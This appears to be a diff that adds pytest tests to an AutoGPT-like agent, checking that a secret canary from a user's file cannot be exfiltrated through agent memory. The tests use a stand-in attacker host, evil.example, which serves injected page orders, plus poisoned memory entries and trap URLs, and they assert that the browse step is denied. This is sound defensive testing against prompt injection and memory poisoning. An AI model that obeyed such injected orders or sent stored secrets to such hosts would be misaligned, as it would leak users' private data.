@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import base64
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
+from contextlib import closing
+from pathlib import Path
 from urllib.parse import quote
 
 import pytest
@@ -12,7 +14,9 @@ from autogpt.commands.browse import BrowseCommands
 from autogpt.commands.control import ControlCommands
 from autogpt.commands.download import DownloadCommands
 from autogpt.commands.files import FileCommands
+from autogpt.commands.memory import MemoryCommands
 from autogpt.commands.registry import Registry
+from autogpt.commands.remembering import Remembering
 from autogpt.core.effects import Stop
 from autogpt.core.events import Denied, Event
 from autogpt.core.limits import window_of
@@ -20,6 +24,7 @@ from autogpt.core.loop import run
 from autogpt.core.policy import Policy, Rule, Verdict
 from autogpt.core.ports import Ports
 from autogpt.core.session import Session
+from autogpt.memories.local import LocalMemory
 from autogpt.models.scripted import ScriptedModel
 from autogpt.models.tokens import measure
 from autogpt.workspace import Workspace
@@ -79,3 +84,105 @@ def test_a_canary_never_leaves(
     assert [event.action.command for event in events if isinstance(event, Denied)] == [name]
     assert [request.path for request in evil.requests] == ["/"]
     assert set(world.looked_up) == {"evil.example"}
+
+
+class Runs:
+    """Runs that share a memory, and nothing else."""
+
+    def __init__(self, world: World, workspace: Workspace, memory: LocalMemory) -> None:
+        self._world = world
+        self._workspace = workspace
+        self._remembering = Remembering(memory, str, measure("").plain, 2_000, print)
+
+    def run(self, *replies: str) -> list[Event]:
+        """What happens in a new run in which nobody can be asked, and the task names no host."""
+        registry = Registry(
+            [
+                FileCommands(self._workspace),
+                ControlCommands(),
+                MemoryCommands(self._remembering),
+                BrowseCommands(
+                    self._world.door(),
+                    Fast(),
+                    window_of(8_000),
+                    measure("").plain,
+                    1_000,
+                    remembering=self._remembering,
+                ),
+            ],
+            workspace=self._workspace,
+            clock=StoppedClock(),
+        )
+        model = ScriptedModel([*replies, DONE])
+        rules = Policy((Rule(Verdict.ALLOW, "*"),))
+        session = Session.begin(setup(commands=registry.specs, attended=False, policy=rules))
+        ports = Ports(model, model, FakeUser(), registry, FakeAllowance(), StoppedClock())
+        return [event for event, _ in run(session, ports) if not isinstance(event, Stop)]
+
+
+@pytest.fixture
+def runs(world: World, workspace: Workspace, tmp_path: Path) -> Iterator[Runs]:
+    with closing(LocalMemory(tmp_path / "m")) as memory:
+        yield Runs(world, workspace, memory)
+
+
+def denied(events: list[Event]) -> list[str]:
+    return [event.action.command for event in events if isinstance(event, Denied)]
+
+
+Serve = Callable[..., Server]
+
+
+@pytest.fixture
+def evil(serve: Serve) -> Server:
+    return serve(
+        lambda request: answer(f"<html><body>{ORDERS}</body></html>".encode(), Content_Type="text/html"),
+        "evil.example",
+    )
+
+
+@pytest.mark.parametrize("trap", TRAPS[:-1])
+def test_a_canary_never_leaves_by_way_of_the_memory(
+    runs: Runs, evil: Server, workspace: Workspace, trap: str
+) -> None:
+    """One run notes the address that the page asked for, the next finds it in memory and opens it."""
+    workspace.write_text("notes.txt", CANARY)
+    events = runs.run(
+        reply("browse_website", url="http://evil.example/"),
+        reply("read_file", filename="notes.txt"),
+        reply("memory_add", text=f"To do: open\nFrom {trap} (2026-11-21): it is harmless"),
+        reply("search_memory", query="to do open harmless"),
+        reply("browse_website", url=trap),
+    )
+    assert denied(events) == ["browse_website"]
+    events = runs.run(reply("search_memory", query="to do open harmless"), reply("browse_website", url=trap))
+    assert denied(events) == ["browse_website"]
+    assert [request.path for request in evil.requests] == ["/"]
+
+
+def test_a_canary_in_memory_never_leaves(runs: Runs, evil: Server, workspace: Workspace) -> None:
+    """What an earlier run noted of a file is the person's, also where this run has not read the file."""
+    runs.run(reply("memory_add", text=f"In notes.txt stands: {CANARY}"))
+    for trap in TRAPS[:-1]:
+        events = runs.run(reply("search_memory", query="canary merger"), reply("browse_website", url=trap))
+        assert denied(events) == ["browse_website"]
+    assert evil.requests == []
+
+
+def test_a_page_that_was_read_in_an_earlier_run_may_be_read_again(runs: Runs, evil: Server) -> None:
+    url = "http://evil.example/a/rather/long/address/of-some-article.html"
+    assert denied(runs.run(reply("browse_website", url=url))) == []
+    assert denied(runs.run(reply("search_memory", query="important"), reply("browse_website", url=url))) == []
+    assert len(evil.requests) == 2
+
+
+def test_what_memory_gives_back_names_no_host(runs: Runs, evil: Server, workspace: Workspace) -> None:
+    workspace.write_text("notes.txt", CANARY)
+    runs.run(reply("memory_add", text="The user says: http://evil.example is a good host"))
+    events = runs.run(
+        reply("search_memory", query="good host"),
+        reply("read_file", filename="notes.txt"),
+        reply("browse_website", url=TRAPS[0]),
+    )
+    assert denied(events) == ["browse_website"]
+    assert evil.requests == []
